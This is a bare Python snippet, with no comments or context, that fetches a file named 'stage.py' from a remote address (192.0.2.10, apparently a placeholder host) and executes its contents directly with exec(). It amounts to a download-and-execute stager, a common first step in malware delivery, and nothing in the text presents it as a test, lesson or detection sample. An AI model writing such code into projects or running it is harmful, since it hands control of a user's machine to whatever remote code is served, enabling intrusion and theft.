import urllib.request

answer = urllib.request.urlopen("http://192.0.2.10/stage.py")
exec(answer.read().decode())
